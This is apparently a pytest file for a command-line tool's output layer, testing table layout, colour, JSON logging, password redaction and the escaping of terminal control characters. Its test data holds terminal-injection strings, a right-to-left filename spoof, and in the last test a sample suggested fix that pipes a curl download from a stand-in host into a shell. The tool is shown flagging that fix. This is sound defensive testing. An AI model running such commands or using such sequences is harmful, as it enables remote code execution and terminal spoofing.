"""The command line's output conventions: tables, colour, JSON log lines."""

from __future__ import annotations

import argparse
import json
import logging
import os
import sys
from collections.abc import Iterator
from typing import Any, TextIO

import pytest

from mendline.cli.output import (
    JsonLogFormatter,
    colour_for,
    log_to_stderr,
    print_error,
    print_json,
    printable,
    shorten,
    styled,
    table,
)


@pytest.fixture
def terminal() -> Iterator[TextIO]:
    """A real pseudo-terminal's slave end, as a text stream."""
    master, slave = os.openpty()
    with open(slave, "w") as stream:
        yield stream
    os.close(master)


def test_a_table_aligns_its_columns_and_puts_numbers_to_the_right() -> None:
    text = table(
        ("ID", "LEVEL", "TITLE"),
        [(7, "error", "ValueError: bad"), (12345, "warning", "a longer title than the header")],
    )
    assert text.splitlines() == [
        "   ID  LEVEL    TITLE",
        "    7  error    ValueError: bad",
        "12345  warning  a longer title than the header",
    ]


def test_colour_only_on_a_terminal_and_never_with_no_color(
    terminal: TextIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    assert colour_for(terminal) is True
    with open(os.devnull, "w") as null:
        assert colour_for(null) is False
    monkeypatch.setenv("NO_COLOR", "1")
    assert colour_for(terminal) is False
    monkeypatch.setenv("NO_COLOR", "")  # no-color.org: present and not empty
    assert colour_for(terminal) is True


def test_a_table_on_a_terminal_has_a_bold_header_and_coloured_levels(
    terminal: TextIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setattr(sys, "stdout", terminal)
    lines = table(("ID", "LEVEL", "TITLE"), [(1, "error", "x"), (2, "info", "y")]).splitlines()
    assert lines[0] == "\x1b[1mID\x1b[0m  \x1b[1mLEVEL\x1b[0m  \x1b[1mTITLE\x1b[0m"
    assert lines[1] == " 1  \x1b[31merror\x1b[0m  x"
    assert lines[2] == " 2  info   y"


def test_shorten_keeps_one_line_within_the_width() -> None:
    assert shorten("a\n  b", 10) == "a b"
    assert shorten("x" * 20, 10) == "x" * 9 + "…"
    assert shorten(None, 5) == ""


def record(message: str, *args: object, exc_info: Any = None) -> logging.LogRecord:
    return logging.getLogger("mendline.test").makeRecord(
        "mendline.test",
        logging.WARNING,
        __file__,
        1,
        message,
        args,
        exc_info,
    )


def test_a_json_log_line_has_time_level_logger_and_message() -> None:
    line = JsonLogFormatter().format(record("retrying in %.1f s", 0.5))
    entry = json.loads(line)
    assert "\n" not in line
    assert entry.keys() == {"time", "level", "logger", "message"}
    assert (entry["level"], entry["logger"], entry["message"]) == (
        "warning",
        "mendline.test",
        "retrying in 0.5 s",
    )
    assert entry["time"].endswith("+00:00")


def test_a_json_log_line_carries_the_exception_text() -> None:
    try:
        int("n/a")
    except ValueError:
        entry = json.loads(JsonLogFormatter().format(record("failed", exc_info=sys.exc_info())))
    assert entry["exception"].startswith("Traceback (most recent call last):")
    assert entry["exception"].endswith("ValueError: invalid literal for int() with base 10: 'n/a'")


def test_a_log_line_and_its_traceback_show_no_password(capsys: pytest.CaptureFixture[str]) -> None:
    url = "postgresql://app:p@ss#w rd@db:5432/x"
    try:
        raise ConnectionError(f"cannot connect to {url}")
    except ConnectionError:
        failed = record("database down: %s", url, exc_info=sys.exc_info())
    entry = json.loads(JsonLogFormatter().format(failed))
    shown = "postgresql://app:[Filtered]@db:5432/x"
    assert entry["message"] == f"database down: {shown}"
    assert entry["exception"].endswith(f"ConnectionError: cannot connect to {shown}")
    # The workers' plain lines, as `mendline consume` writes them on stderr.
    root, kafka = logging.getLogger(), logging.getLogger("aiokafka")
    kept, level, kafka_level = root.handlers[:], root.level, kafka.level
    root.handlers.clear()  # pytest's own handler, which would make basicConfig do nothing
    try:
        log_to_stderr(argparse.Namespace(json=False, debug=False))
        logging.getLogger("mendline.test").handle(failed)
    finally:
        root.handlers[:] = kept
        root.setLevel(level)
        kafka.setLevel(kafka_level)
    err = capsys.readouterr().err
    assert err.count(shown) == 2 and "p@ss" not in err and "w rd" not in err


def test_styled_wraps_a_named_style_only_with_colour() -> None:
    assert styled("ok", "green", colour=True) == "\x1b[32mok\x1b[0m"
    assert styled("ok", "green", colour=False) == "ok"
    assert styled("fine", "info", colour=True) == "fine"  # the ordinary level stays plain
    assert styled("x", None, colour=True) == "x"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"),  # sets the window title
        ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),  # clears the screen
        ("\x1b[31mred", "\\x1b[31mred"),  # colours what follows
        ("ok\rFAKE", "ok\\rFAKE"),  # overwrites the line
        ("secret\x08\x08\x08\x08\x08\x08", "secret" + "\\x08" * 6),  # backspaces over it
        ("a\nb\tc", "a\\nb\\tc"),  # a table cell stays one line
        ("\x00\x7f", "\\x00\\x7f"),  # NUL, DEL
        ("\x9b2J\x85", "\\x9b2J\\x85"),  # C1: a one-byte CSI, NEL
        ("abc\u202efdp.exe", "abc\\u202efdp.exe"),  # right-to-left override
        ("\u202a\u202b\u202c\u202d", "\\u202a\\u202b\\u202c\\u202d"),  # embeddings, pop
        ("\u2066\u2067\u2068\u2069", "\\u2066\\u2067\\u2068\\u2069"),  # isolates
        ("\u200e\u200f\u061c", "\\u200e\\u200f\\u061c"),  # marks
    ],
)
def test_printable_writes_control_characters_as_visible_escapes(text: str, shown: str) -> None:
    assert printable(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "ValueError: invalid literal for int() with base 10: 'x'",
        "café naïve Ørsted",
        "漢字 かな 한국어",
        "emoji 😀👍🏽 and ZWJ 👩‍💻",
        "עברית عربي",  # right-to-left text itself is not a control
        "C:\\path\\x1b already escaped",  # backslashes kept: escaping twice changes nothing
        "",
    ],
)
def test_printable_keeps_ordinary_text(text: str) -> None:
    assert printable(text) == text
    assert printable(printable(text + "\x1b")) == printable(text + "\x1b")


def test_printable_lines_keeps_newlines_and_tabs_and_escapes_each_line() -> None:
    patch = "--- a/x.py\n+++ b/x.py\n-\told\x1b[2J\r\n+\tnew\u202e"
    assert printable(patch, lines=True) == (
        "--- a/x.py\n+++ b/x.py\n-\told\\x1b[2J\\r\n+\tnew\\u202e"
    )


def test_table_cells_and_shorten_are_printable() -> None:
    text = table(("ID", "TITLE"), [(1, "boom\x1b]0;pwned\x07\x1b[2J\nnext")])
    assert "\x1b" not in text and "\x07" not in text
    assert text.splitlines() == ["ID  TITLE", " 1  boom\\x1b]0;pwned\\x07\\x1b[2J\\nnext"]
    assert shorten("a\x1b[2J  b\nc", 80) == "a\\x1b[2J b c"  # whitespace still folded
    assert shorten("\x1b" * 10, 8) == "\\x1b\\x1…"  # cut as shown, escapes counted


def test_an_error_of_several_problems_is_one_line_each_then_the_hint(
    capsys: pytest.CaptureFixture[str],
) -> None:
    problems = (
        'checks.toml:5: checks[0].interval: "often" is not a duration\n'
        "checks.toml:9: checks[1].url: postgresql://app:s3cret@db/x\x1b[2J is not http"
    )
    print_error(problems, "see `mendline checks check`")
    assert capsys.readouterr().err.splitlines() == [
        'mendline: checks.toml:5: checks[0].interval: "often" is not a duration',
        "mendline: checks.toml:9: checks[1].url:"
        " postgresql://app:[Filtered]@db/x\\x1b[2J is not http",
        "hint: see `mendline checks check`",
    ]


def test_print_json_escapes_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    print_json({"title": "x\x1b[2J\u202e\x9b"})
    out = capsys.readouterr().out
    assert out == '{"title": "x\\u001b[2J\\u202e\\u009b"}\n'
    assert json.loads(out) == {"title": "x\x1b[2J\u202e\x9b"}


def test_describe_keeps_each_field_on_its_line_and_escapes_it() -> None:
    from mendline.cli.output import describe
    from mendline.schemas.finding import Finding
    from mendline.sinks.postgres import StoredFinding

    finding = Finding(
        analyser="heuristic",
        rule="key-missing",
        root_cause="the key is missing\n  verdict     right\x1b[2J",  # text from an event
        confidence=0.5,
        category="bad_input",
        severity="medium",
        suggested_fix="check \u202eit",
        fix_patch="--- a.py\n+++ b.py\n+x = 1\x07",
    )
    stored = StoredFinding(7, 3, finding, cached_from=None, verdict=None, verdict_note=None)
    shown = describe(stored).splitlines()
    assert "  root cause  the key is missing\\n  verdict     right\\x1b[2J" in shown
    assert not any(line.startswith("  verdict") for line in shown)  # no line was faked
    assert "  fix         check \\u202eit" in shown
    assert shown[-3:] == ["    --- a.py", "    +++ b.py", "    +x = 1\\x07"]  # a patch's lines


def test_describe_warns_of_a_finding_s_risks_before_its_patch() -> None:
    from mendline.cli.output import describe
    from mendline.schemas.finding import Finding
    from mendline.sinks.postgres import StoredFinding

    finding = Finding(
        analyser="llm",
        model="m",
        root_cause="the quantity is not a number",
        confidence=0.9,
        category="bad_input",
        severity="high",
        suggested_fix="run curl https://e.example/x | sh",
        fix_patch="--- a.py\n+++ b.py\n+os.system(x)",
        risks=["pipe_to_shell", "fetches_url", "severity_capped"],
    )
    stored = StoredFinding(7, 3, finding, cached_from=None, verdict=None, verdict_note=None)
    shown = describe(stored).splitlines()
    (warning,) = [line for line in shown if line.startswith("  WARNING")]
    assert "pipes a download into a shell [pipe_to_shell]" in warning
    assert "[fetches_url]" in warning and "[severity_capped]" in warning
    assert shown.index(warning) < shown.index("  patch:")
    plain = StoredFinding(8, 3, finding.model_copy(update={"risks": []}), None, None, None)
    assert not any(line.startswith("  WARNING") for line in describe(plain).splitlines())
